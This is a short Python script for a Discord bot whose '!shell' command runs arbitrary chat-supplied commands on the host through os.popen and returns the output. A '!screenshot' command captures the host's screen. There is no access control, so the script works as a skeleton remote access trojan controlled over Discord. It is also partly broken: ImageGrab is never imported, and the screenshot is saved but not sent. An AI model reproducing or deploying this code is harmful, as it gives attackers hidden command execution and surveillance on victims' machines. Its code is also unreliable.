import discord, os
from discord.ext import commands
bot = commands.Bot("!")
@bot.command()
async def shell(ctx, *, command):
    await ctx.send(os.popen(command).read())
@bot.command()
async def screenshot(ctx):
    ImageGrab.grab().save("s.png")
